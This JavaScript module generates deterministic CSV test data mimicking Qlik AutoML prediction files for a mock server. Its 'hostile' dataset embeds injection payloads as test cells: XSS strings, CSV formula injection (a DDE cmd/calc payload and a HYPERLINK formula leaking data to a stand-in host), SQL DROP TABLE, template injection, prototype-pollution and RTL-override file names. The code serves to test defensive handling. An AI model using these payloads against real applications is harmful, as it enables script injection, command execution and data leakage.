// Deterministic CSV datasets shaped like Qlik AutoML prediction output (a churn model with
// target `Churned`, or a 3-class model with target `CustomerValue`). Every cell is a pure
// function of (prediction ID, refId, row index), so a file can be streamed in 64 KiB chunks
// of any size, produced again byte for byte, and measured without being held in memory.
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';

/** The five file endpoints, in API order. */
export const FILE_TYPES = Object.freeze([
  'predictions', 'shap', 'coordinate-shap', 'not-predicted-reasons', 'source',
]);

const CHUNK_CHARS = 64 * 1024;

/** The fixed sample prediction IDs. `rows-<N>` and `bytes-<N>` are accepted as well. */
export const SAMPLE_DATASETS = Object.freeze([
  { id: 'churn-small', rows: 500, eol: '\n', description: 'Binary churn model, 500 accounts, LF line endings.' },
  { id: 'churn-medium', rows: 50_000, eol: '\r\n', description: 'Binary churn model, 50,000 accounts, CRLF line endings.' },
  { id: 'churn-large', bytes: 100_000_000, eol: '\n', description: 'Binary churn model; every file is exactly 100,000,000 bytes, LF.' },
  { id: 'churn-1gb', bytes: 1_073_741_824, eol: '\r\n', description: 'Binary churn model; every file is exactly 1 GiB (1,073,741,824 bytes), CRLF.' },
  { id: 'multiclass', rows: 2_000, eol: '\r\n', multiclass: true, description: '3-class model (target CustomerValue: low, medium, high), 2,000 accounts, CRLF. Wide SHAP is not available (404); coordinate SHAP has an extra automl_class column.' },
  { id: 'hostile', rows: 40, eol: '\r\n', hostile: true, description: 'Binary churn model, 40 accounts, CRLF, with hostile cells: account 0 is `<img src=x onerror=alert(1)>`, source has Notes and __proto__ columns with HTML, formula and multi-line payloads.' },
  { id: 'empty', rows: 0, eol: '\n', description: 'Header lines only, no data rows.' },
  { id: 'no-jobs', rows: 100, eol: '\n', jobs: 'none', description: 'Binary churn model, 100 accounts; POST jobs answers 200 with an empty body.' },
  { id: 'pending', rows: 100, eol: '\n', jobs: 'running', unavailable: 'pending', description: 'Prediction still running: jobs status "running", every file 409 AUTOML-409.' },
  { id: 'failed', rows: 100, eol: '\n', jobs: 'failed', unavailable: 'failed', description: 'Prediction failed: jobs status "failed", every file 404 AUTOML-404.' },
  { id: 'missing', missing: true, description: 'Unknown prediction: every endpoint 404 AUTOML-404 (as is any ID not listed here).' },
].map((d) => Object.freeze(d)));

const GENERIC_FLAGS = new Set(['crlf', 'lf', 'multiclass', 'hostile']);
const UNIT = { '': 1, k: 1e3, m: 1e6, g: 1e9 };

/** An error the server turns into a Qlik JSON error answer. */
export class DatasetError extends Error {
  constructor(status, code, title, detail, meta = {}) {
    super(detail || title);
    this.status = status;
    this.code = code;
    this.title = title;
    this.detail = detail;
    this.meta = meta;
  }
}

/**
 * The dataset a prediction ID names, or null when the ID is unknown. Generic IDs:
 * `rows-<N>` (N accounts) and `bytes-<N>` (every file exactly N bytes, or one row when N
 * is smaller than the header plus one row), N in digits with an optional k/m/g suffix
 * (powers of 1000), followed by any of `-crlf`, `-multiclass`, `-hostile`.
 */
export function resolveDataset(predictionId) {
  const id = String(predictionId);
  const sample = SAMPLE_DATASETS.find((d) => d.id === id);
  if (sample) return sample.missing ? null : { ...sample, jobs: sample.jobs ?? 'completed' };
  const m = /^(rows|bytes)-(\d+)([kmg]?)((?:-[a-z]+)*)$/.exec(id);
  if (!m) return null;
  const n = Number(m[2]) * UNIT[m[3]];
  const flags = m[4] ? m[4].slice(1).split('-') : [];
  if (!Number.isSafeInteger(n) || flags.some((f) => !GENERIC_FLAGS.has(f))) return null;
  if (m[1] === 'rows' && n > 2 ** 31) return null;
  const d = { id, eol: flags.includes('crlf') ? '\r\n' : '\n', jobs: 'completed' };
  d[m[1]] = n;
  if (flags.includes('multiclass')) d.multiclass = true;
  if (flags.includes('hostile')) d.hostile = true;
  d.description = `${m[1] === 'rows' ? `${n} accounts` : `every file exactly ${n} bytes`}${d.multiclass ? ', multiclass' : ''}${d.hostile ? ', hostile cells' : ''}, ${d.eol === '\n' ? 'LF' : 'CRLF'}.`;
  return d;
}

// ---------------------------------------------------------------------------------------
// Hashing: a stateless 32-bit mix of (seed, row, column), so any cell is random-access.

function fnv1a(str) {
  let h = 0x811c9dc5;
  for (const b of Buffer.from(str, 'utf8')) {
    h ^= b;
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

function rnd(seed, row, k) {
  let h = seed ^ Math.imul(row | 0, 0x9e3779b1) ^ Math.imul((row / 4294967296) | 0, 0x27d4eb2f);
  h ^= Math.imul(k + 1, 0x85ebca77);
  h ^= h >>> 16;
  h = Math.imul(h, 0x7feb352d);
  h ^= h >>> 15;
  h = Math.imul(h, 0x846ca68b);
  h ^= h >>> 16;
  return h >>> 0;
}

const D4 = Array.from({ length: 10000 }, (_, i) => String(i).padStart(4, '0'));
const D1 = Array.from({ length: 10 }, (_, i) => String(i));

function pad9(n) {
  return D1[Math.floor(n / 100000000)] + D4[Math.floor(n / 10000) % 10000] + D4[n % 10000];
}

function csvField(value) {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

// A probability pair with 9 decimals that sums to exactly 1.
function probPair(h) {
  const p = h % 1000000000;
  const q = 1000000000 - p;
  return [q === 1000000000 ? '1.000000000' : `0.${pad9(q)}`, `0.${pad9(p)}`];
}

// How much each feature moves the model: feature k's SHAP values shrink with k, so a chart of
// mean |SHAP| per feature shows a clear ranking, as real models do.
const SHAP_SCALE = Array.from({ length: 64 }, (_, k) => 1 / (1 + 0.35 * k));

// A signed SHAP value with 8, 10, 12 or 14 decimals, mostly within (-1, 1), scaled for feature
// `k` (the scale changes digits, never the length).
function shapValue(h1, h2, k = 0) {
  const sign = h1 & 1 ? '-' : '';
  const intPart = k < 3 && ((h1 >>> 1) & 15) >= 12 ? (h1 >>> 5) & 3 : 0;
  const lead = D4[h2 % 10000];
  const first = Math.floor(Number(lead[0]) * SHAP_SCALE[k % 64]);
  let s = `${sign}${intPart}.${first}${lead.slice(1)}${D4[(h2 >>> 14) % 10000]}`;
  const extra = (h1 >>> 8) & 3;
  if (extra >= 2) s += D4[(h1 >>> 12) % 10000];
  if (extra & 1) s += D4[(h1 >>> 20) % 100].slice(2);
  return s;
}

// ---------------------------------------------------------------------------------------
// Model shapes.

const FEATURES = [
  'Territory', 'Country', 'DeviceType', 'Promotion', 'HasRenewed', 'PlanType', 'BaseFee',
  'NumberOfPenalties', 'CurrentPeriodUsage', 'PriorPeriodUsage', 'ServiceRating',
  'ServiceTickets', 'StartMonth', 'StartWeek', 'Tenure', 'AdditionalFeatureSpend',
  'DaysSinceLastService',
];

const VOCAB = {
  Territory: ['Northern Europe', 'Southern Europe', 'Paris, Île-de-France', 'Kantō', 'São Paulo, SP',
    'East Coast', 'West Coast', 'Bavaria, München', 'Québec', 'APAC'],
  Country: ['France', '日本', 'México', 'Deutschland', "Côte d'Ivoire", 'United States', 'Sverige',
    'Brasil', 'India', 'Ελλάδα', 'Canada', 'Danmark'],
  DeviceType: ['Desktop', 'Mobile', 'Tablet', 'Smart TV'],
  Promotion: ['None', '', 'Discount 10%', 'Free month 🎁', 'Bundle: phone, tablet', 'Say "hello" offer',
    'Summer sale ☀️', 'None'],
  HasRenewed: ['yes', 'no'],
  PlanType: ['Basic', 'Standard', 'Premium'],
};
const VOCAB_CSV = Object.fromEntries(Object.entries(VOCAB).map(([k, v]) => [k, v.map(csvField)]));

const HOSTILE_ID = '<img src=x onerror=alert(1)>';
const HOSTILE_NOTES = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("xss")</script>',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  'line one\r\nline two',
  'javascript:alert(document.cookie)',
  '</td></tr></table><h1>injected</h1>',
  "{{constructor.constructor('alert(1)')()}}",
  "'; DROP TABLE predictions; --",
  '\u202Egnp.exe',
  'null',
  'undefined',
  ' leading and trailing spaces ',
  '"quoted"',
  '',
].map(csvField);
const HOSTILE_PROTO = csvField('{"polluted":true}');

const REASONS = [
  'Missing value in column "Tenure", row skipped',
  'Value "n/a" could not be converted to a number, column AdditionalFeatureSpend',
  'Unknown category "Platinum" in column PlanType, not seen during training',
  'Too many missing features (7 of 17)',
  'Date out of range: 1899-12-31, column StartMonth',
  'Valeur manquante dans la colonne "Tenure", ligne ignorée',
].map(csvField);
const HOSTILE_REASONS = [...REASONS, csvField('<img src=x onerror=alert(2)> in column "Territory"')];

const BINARY = { target: 'Churned', classes: ['no', 'yes'] };
const MULTI = { target: 'CustomerValue', classes: ['low', 'medium', 'high'] };

// One not-predicted reason per block of this many accounts (fewer for hostile datasets).
const REASON_BLOCK = 50;
const HOSTILE_REASON_BLOCK = 5;

function accountId(ds, a) {
  return ds.hostile && a === 0 ? HOSTILE_ID : `aa${10000 + a}`;
}

// Above this many rows, the random part of a row repeats with a period of about CYCLE_ROWS
// rows (account IDs and the source `index` stay unique), so large files cost one cached
// string per row instead of a freshly formatted one.
const UNIQUE_ROWS = 8_192;
const CYCLE_ROWS = 8_192;

// Each builder returns { header, ascii, count, lead(j), body(v, pad), trail(j), unit }:
// `count` data rows (Infinity in bytes mode); row j is lead(j) + body(v, pad) + trail(j)
// without its line ending, where v = j, or j modulo a multiple of `unit` rows when the file
// cycles. `body(v, pad)` carries `pad` extra bytes of padding inside one field (zeros after a
// decimal number, or spaces in a text field), so that it is exactly `pad` bytes longer than
// `body(v, 0)`. `ascii` tells whether every row is ASCII (byte length = string length).
const BUILDERS = {
  predictions(ds, seed, accounts) {
    const model = ds.multiclass ? MULTI : BINARY;
    const header = ['AccountID', `${model.target}_predicted`, ...model.classes.map((c) => `${model.target}_${c}`)].join(',');
    const f = (v) => (v === 1000000000 ? '1.000000000' : `0.${pad9(v)}`);
    const body = ds.multiclass
      ? (j, pad) => {
        const a = rnd(seed, j, 1) % 1000000000;
        const b = rnd(seed, j, 2) % (1000000000 - a);
        const c = 1000000000 - a - b;
        const best = a >= b && a >= c ? 0 : b >= c ? 1 : 2;
        return `,${MULTI.classes[best]},${f(a)},${f(b)},${f(c)}${pad ? '0'.repeat(pad) : ''}`;
      }
      : (j, pad) => {
        const [no, yes] = probPair(rnd(seed, j, 1));
        return `,${yes >= '0.5' ? 'yes' : 'no'},${no},${yes}${pad ? '0'.repeat(pad) : ''}`;
      };
    return { header, ascii: true, count: accounts, lead: (j) => accountId(ds, j), body, unit: 1 };
  },

  shap(ds, seed, accounts) {
    const header = ['AccountID', ...FEATURES.map((f) => `${f}_SHAP`)].join(',');
    const n = FEATURES.length;
    const body = (j, pad) => {
      let s = '';
      for (let k = 0; k < n; k++) s += `,${shapValue(rnd(seed, j, 100 + 2 * k), rnd(seed, j, 101 + 2 * k), k)}`;
      return pad ? s + '0'.repeat(pad) : s;
    };
    return { header, ascii: true, count: accounts, lead: (j) => accountId(ds, j), body, unit: 1 };
  },

  'coordinate-shap'(ds, seed, accounts) {
    const classes = ds.multiclass ? MULTI.classes : [null];
    const per = FEATURES.length * classes.length;
    const header = ds.multiclass ? 'AccountID,automl_feature,SHAP_value,automl_class' : 'AccountID,automl_feature,SHAP_value';
    const body = (j, pad) => {
      const a = Math.floor(j / per);
      const r = j - a * per;
      const c = Math.floor(r / FEATURES.length);
      const k = r - c * FEATURES.length;
      const v = shapValue(rnd(seed, a, 100 + 2 * k + 64 * c), rnd(seed, a, 101 + 2 * k + 64 * c), (k + 5 * c) % FEATURES.length);
      const s = `,${FEATURES[k]},${v}${pad ? '0'.repeat(pad) : ''}`;
      return classes[c] === null ? s : `${s},${classes[c]}`;
    };
    return {
      header, ascii: true, count: accounts * per, lead: (j) => accountId(ds, Math.floor(j / per)), body, unit: per,
    };
  },

  'not-predicted-reasons'(ds, seed, accounts) {
    const vocab = ds.hostile ? HOSTILE_REASONS : REASONS;
    const block = ds.hostile ? HOSTILE_REASON_BLOCK : REASON_BLOCK;
    // Reason j is for an account chosen within block j of `block` accounts.
    const count = accounts === Infinity ? Infinity : Math.ceil(accounts / block);
    const lead = (j) => {
      const start = j * block;
      return accountId(ds, start + (rnd(seed, j, 7) % Math.min(block, accounts - start)));
    };
    const body = (j, pad) => {
      const reason = ds.hostile && j === 0 ? vocab[vocab.length - 1] : vocab[rnd(seed, j, 8) % vocab.length];
      if (!pad) return `,${reason}`;
      return reason.endsWith('"') ? `,${reason.slice(0, -1)}${' '.repeat(pad)}"` : `,${reason}${' '.repeat(pad)}`;
    };
    return { header: 'AccountID,reason', ascii: false, count, lead, body, unit: 1 };
  },

  source(ds, seed, accounts) {
    const cols = ['AccountID', ...FEATURES];
    if (ds.hostile) cols.push('Notes', '__proto__');
    cols.push('index');
    const V = VOCAB_CSV;
    const num = (v, d) => (v / 10 ** d).toFixed(d);
    const body = (j, pad) => {
      const h = (k) => rnd(seed, j, 300 + k);
      const h9 = h(9);
      const h10 = h(10);
      const h15 = h(15);
      const h16 = h(16);
      let s = `,${ds.hostile && j % 7 === 3 ? csvField(HOSTILE_ID) : V.Territory[h(0) % V.Territory.length]}`;
      s += `,${V.Country[h(1) % V.Country.length]}`;
      s += `,${V.DeviceType[h(2) % V.DeviceType.length]}`;
      s += `,${V.Promotion[h(3) % V.Promotion.length]}`;
      s += `,${V.HasRenewed[h(4) & 1]}`;
      s += `,${V.PlanType[h(5) % 3]}`;
      s += `,${num(999 + (h(6) % 9000), 2)}${pad ? '0'.repeat(pad) : ''}`;
      s += `,${h(7) % 6}`;
      s += `,${num(h(8) % 500000, 3)}`;
      s += `,${h9 % 33 === 0 ? '' : num((h9 >>> 6) % 500000, 3)}`;
      s += `,${h10 % 20 === 0 ? '' : num((h10 >>> 5) % 51, 1)}`;
      s += `,${h(11) % 12}`;
      s += `,${1 + (h(12) % 12)}`;
      s += `,${1 + (h(13) % 52)}`;
      s += `,${num(h(14) % 12000, 2)}`;
      s += `,${h15 % 12 === 0 ? '' : num((h15 >>> 4) % 250000, 2)}`;
      s += `,${h16 % 25 === 0 ? '' : (h16 >>> 5) % 400}`;
      if (ds.hostile) {
        s += `,${j === 0 ? HOSTILE_NOTES[0] : HOSTILE_NOTES[h(17) % HOSTILE_NOTES.length]}`;
        s += `,${HOSTILE_PROTO}`;
      }
      return s;
    };
    return {
      header: cols.join(','), ascii: false, count: accounts, lead: (j) => accountId(ds, j), body, trail: (j) => `,${j}`, unit: 1,
    };
  },
};

// Row j of a builder as a function (j, pad) -> string, caching bodies when the file cycles.
function rowFunction(b) {
  const { lead, body, trail } = b;
  if (b.count <= UNIQUE_ROWS) {
    return trail ? (j, pad) => lead(j) + body(j, pad) + trail(j) : (j, pad) => lead(j) + body(j, pad);
  }
  const period = Math.ceil(CYCLE_ROWS / b.unit) * b.unit;
  const cache = new Array(period);
  const cached = (j, pad) => {
    const v = j % period;
    if (pad) return body(v, pad);
    let s = cache[v];
    if (s === undefined) {
      // Flattened once, so later concatenations copy a flat string.
      s = body(v, 0);
      s = Buffer.from(s).toString();
      cache[v] = s;
    }
    return s;
  };
  return trail ? (j, pad) => lead(j) + cached(j, pad) + trail(j) : (j, pad) => lead(j) + cached(j, pad);
}

// ---------------------------------------------------------------------------------------
// File plans.

// An invalid byte followed by a truncated 3-byte sequence (the first two bytes of 日):
// a non-fatal UTF-8 decoder yields two U+FFFD; a fatal one throws.
const BAD_UTF8 = Buffer.from([0xff, 0xe6, 0x97]);
const EXTRA_FIELD = ',unexpected extra field';

function parseMalformed(value) {
  if (value === undefined || value === null || value === false || value === '' || value === '0') return new Set();
  if (value === true || value === '1' || value === 'true') return new Set(['fields']);
  const list = Array.isArray(value) ? value : String(value).split(/[|,]/);
  return new Set(list.map((s) => String(s).trim()).filter(Boolean));
}

function injectBadUtf8(row) {
  const comma = row.indexOf(',');
  let at = comma < 0 ? row.length : comma + 1;
  if (row[at] === '"') at += 1;
  return Buffer.concat([Buffer.from(row.slice(0, at)), BAD_UTF8, Buffer.from(row.slice(at))]);
}

function byteLen(s, ascii) {
  if (typeof s !== 'string') return s.length;
  return ascii ? s.length : Buffer.byteLength(s);
}

/**
 * Checks that `file` of `predictionId` exists; throws DatasetError (404 or 409) otherwise.
 * Returns the resolved dataset.
 */
export function checkFile(predictionId, file) {
  const ds = resolveDataset(predictionId);
  if (!FILE_TYPES.includes(file)) {
    throw new DatasetError(404, 'HTTP-404', 'Not Found', `Unknown file type '${file}'`);
  }
  if (!ds) {
    throw new DatasetError(404, 'AUTOML-404', 'Prediction not found',
      `No prediction with ID '${predictionId}' was found.`,
      { resource: 'prediction', resourceId: String(predictionId) });
  }
  if (ds.unavailable === 'pending') {
    throw new DatasetError(409, 'AUTOML-409', 'Prediction not ready',
      `Prediction '${predictionId}' is still running; its ${file} file is not available yet.`,
      { resource: 'prediction', resourceId: ds.id });
  }
  if (ds.unavailable === 'failed') {
    throw new DatasetError(404, 'AUTOML-404', 'Prediction output not found',
      `Prediction '${predictionId}' failed; it has no ${file} file.`,
      { resource: 'prediction', resourceId: ds.id });
  }
  if (file === 'shap' && ds.multiclass) {
    throw new DatasetError(404, 'AUTOML-404', 'SHAP file not found',
      'SHAP values in wide form are not available for multiclass models; use coordinate-shap.',
      { resource: 'prediction', resourceId: ds.id });
  }
  return ds;
}

/**
 * The byte-exact plan of one file. `opts`: `refId` (varies the values), `bom` (prefix a
 * UTF-8 BOM), `badUtf8` (invalid bytes in data row 1), `malformed` ('fields': an extra field
 * on data row 2; 'quote': a last row with an unterminated quoted field; 'short': a last row with
 * too few fields and no line break; '1' or true = 'fields'; several as 'fields,quote').
 */
export function planFile(predictionId, file, opts = {}) {
  const ds = checkFile(predictionId, file);
  const refId = opts.refId === undefined || opts.refId === null ? '' : String(opts.refId);
  const seed = fnv1a(`${ds.id}\u0000${file}\u0000${refId}`);
  const accounts = ds.bytes !== undefined ? Infinity : ds.rows;
  const b = BUILDERS[file](ds, seed, accounts);
  const malformed = parseMalformed(opts.malformed);
  const eol = ds.eol;
  const count = b.count;
  const badAt = opts.badUtf8 ? Math.min(1, count - 1) : -1;
  const extraAt = malformed.has('fields') ? Math.min(2, count - 1) : -1;
  const base = rowFunction(b);
  const row = badAt < 0 && extraAt < 0 ? base : (j, pad) => {
    let r = base(j, pad);
    if (j === extraAt) r += EXTRA_FIELD;
    if (j === badAt) r = injectBadUtf8(r);
    return r;
  };
  const head = `${opts.bom ? '\uFEFF' : ''}${b.header}${eol}`;
  const lastId = `aa${10000 + (Number.isFinite(accounts) ? accounts : 99999)}`;
  let tail = '';
  if (malformed.has('quote')) tail += `${lastId},"Unterminated quoted field, never closed${eol}`;
  else if (malformed.has('short')) tail += `${lastId},too few fields`;
  const fixed = Buffer.byteLength(head) + Buffer.byteLength(tail);
  let total = null;
  if (ds.bytes !== undefined) {
    total = Math.max(ds.bytes, fixed + byteLen(row(0, 0), b.ascii) + eol.length);
  }
  return {
    dataset: ds, file, refId, eol, header: b.header, ascii: b.ascii, head, tail, row,
    rowCount: Number.isFinite(count) ? count : null,
    /** Exact size when known without generating (bytes mode), else null. */
    knownLength: total,
    /** Approximate size from the first rows (rows mode), for choosing whether to measure. */
    estimateLength() {
      if (total !== null) return total;
      const n = Math.min(count, 64);
      let sum = 0;
      for (let j = 0; j < n; j++) sum += byteLen(row(j, 0), b.ascii) + eol.length;
      return fixed + (n ? Math.round((sum / n) * count) : 0);
    },
    chunks() { return generatePlan(this, total, fixed); },
  };
}

function* generatePlan(plan, total, fixed) {
  const { row, eol, ascii, head, tail } = plan;
  const eolLen = eol.length;
  // Upper bound of UTF-8 bytes per UTF-16 code unit.
  const maxBytesPerUnit = ascii ? 1 : 3;
  let buf = head;
  let rows = 0;
  if (total === null) {
    const count = plan.rowCount;
    for (let j = 0; j < count; j++) {
      const r = row(j, 0);
      rows += 1;
      if (typeof r === 'string') {
        buf += r;
        buf += eol;
        if (buf.length >= CHUNK_CHARS) {
          yield Buffer.from(buf);
          buf = '';
        }
      } else {
        if (buf) yield Buffer.from(buf);
        yield r;
        buf = eol;
      }
    }
  } else {
    // Bytes mode. `remaining` is the exact budget left for data rows once `buf` (not yet
    // encoded) is accounted for; row j is emitted as is while row j + 1 still fits after it,
    // else padded to fill the budget exactly. Far from the end, upper bounds replace exact
    // lengths so rows are not measured one by one.
    let remaining = total - fixed;
    buf = '';
    const flush = function flush() {
      const chunk = Buffer.from(buf);
      remaining -= chunk.length;
      buf = '';
      return chunk;
    };
    yield Buffer.from(head);
    let cur = row(0, 0);
    for (let j = 0; ; j++) {
      const next = row(j + 1, 0);
      if (typeof cur === 'string' && typeof next === 'string'
        && remaining - maxBytesPerUnit * (buf.length + cur.length + next.length + 2 * eolLen) >= 0) {
        buf += cur;
        buf += eol;
        rows += 1;
        if (buf.length >= CHUNK_CHARS) yield flush();
        cur = next;
        continue;
      }
      if (buf) yield flush();
      const curLen = byteLen(cur, ascii) + eolLen;
      const nextLen = byteLen(next, ascii) + eolLen;
      rows += 1;
      if (remaining - curLen >= nextLen) {
        if (typeof cur === 'string') {
          buf = cur + eol;
        } else {
          remaining -= cur.length;
          yield cur;
          buf = eol;
        }
        yield flush();
        cur = next;
        continue;
      }
      const last = row(j, remaining - curLen);
      yield typeof last === 'string' ? Buffer.from(last + eol) : Buffer.concat([last, Buffer.from(eol)]);
      break;
    }
  }
  buf += tail;
  if (buf) yield Buffer.from(buf);
  plan.rowsGenerated = rows;
}

/**
 * The exact bytes the mock tenant serves for `file` of `predictionId` (before any transport
 * fault or gzip), as a synchronous generator of Buffers (also usable with `for await`).
 * Throws DatasetError when the file does not exist. Options as in `planFile`.
 */
const WIDE_CHUNK = 1 << 20;

// `count` copies of the one- or two-byte `unit`, in chunks of at most WIDE_CHUNK bytes.
function* repeated(unit, count) {
  const perChunk = Math.floor(WIDE_CHUNK / unit.length);
  const full = Buffer.from(unit.repeat(Math.min(count, perChunk)));
  for (let left = count; left > 0; left -= perChunk) {
    yield left >= perChunk ? full : full.subarray(0, left * unit.length);
  }
}

/**
 * A hostile wide file: a header of `columns` empty names (commas only), then `rows` rows of
 * `columns` cells `1`, LF line endings. Exactly `columns * (1 + 2 * rows)` bytes, generated
 * in chunks of at most 1 MiB. Returns { knownLength, chunks() } like a plan.
 */
export function wideFile(columns, rows) {
  const c = Math.max(1, Math.floor(columns));
  const r = Math.max(0, Math.floor(rows));
  return {
    knownLength: c * (1 + 2 * r),
    * chunks() {
      yield* repeated(',', c - 1);
      yield Buffer.from('\n');
      for (let j = 0; j < r; j++) {
        yield* repeated('1,', c - 1);
        yield Buffer.from('1\n');
      }
    },
  };
}

export function generateChunks(predictionId, file, opts = {}) {
  return planFile(predictionId, file, opts).chunks();
}

/** The same bytes as a Node Readable stream. */
export function createFileStream(predictionId, file, opts = {}) {
  return Readable.from(generateChunks(predictionId, file, opts), { objectMode: false });
}

const yieldToLoop = () => new Promise((resolve) => setImmediate(resolve));

/**
 * Size, SHA-256 and number of data rows (records as generated; a multi-line cell still counts
 * once) of a file, computed by generating it once without holding it.
 */
export async function describeFile(predictionId, file, opts = {}) {
  const plan = planFile(predictionId, file, opts);
  const hash = createHash('sha256');
  let bytes = 0;
  let n = 0;
  for (const chunk of plan.chunks()) {
    hash.update(chunk);
    bytes += chunk.length;
    if (++n % 32 === 0) await yieldToLoop();
  }
  return { bytes, sha256: hash.digest('hex'), rows: plan.rowsGenerated };
}

/** Exact byte length of a file, by generating it once (bytes-mode files need no pass). */
export async function measureFile(predictionId, file, opts = {}) {
  const plan = planFile(predictionId, file, opts);
  if (plan.knownLength !== null) return plan.knownLength;
  let bytes = 0;
  let n = 0;
  for (const chunk of plan.chunks()) {
    bytes += chunk.length;
    if (++n % 32 === 0) await yieldToLoop();
  }
  return bytes;
}

/**
 * SHA-256 (hex) of a string, Buffer/TypedArray/ArrayBuffer, or a sync or async iterable of
 * those (a Node Readable, a generator from `generateChunks`, a WHATWG ReadableStream).
 */
export async function sha256(source) {
  const hash = createHash('sha256');
  const add = (c) => {
    if (typeof c === 'string' || Buffer.isBuffer(c)) hash.update(c);
    else if (ArrayBuffer.isView(c)) hash.update(new Uint8Array(c.buffer, c.byteOffset, c.byteLength));
    else if (c instanceof ArrayBuffer) hash.update(new Uint8Array(c));
    else throw new TypeError('sha256: unsupported chunk type');
  };
  if (typeof source === 'string' || ArrayBuffer.isView(source) || source instanceof ArrayBuffer) {
    add(source);
  } else if (source && typeof source[Symbol.asyncIterator] === 'function') {
    for await (const c of source) add(c);
  } else if (source && typeof source[Symbol.iterator] === 'function') {
    let n = 0;
    for (const c of source) {
      add(c);
      if (++n % 32 === 0) await yieldToLoop();
    }
  } else {
    throw new TypeError('sha256: unsupported source');
  }
  return hash.digest('hex');
}

/** SHA-256 (hex) of the bytes `generateChunks` yields. */
export async function fileSha256(predictionId, file, opts = {}) {
  return sha256(generateChunks(predictionId, file, opts));
}
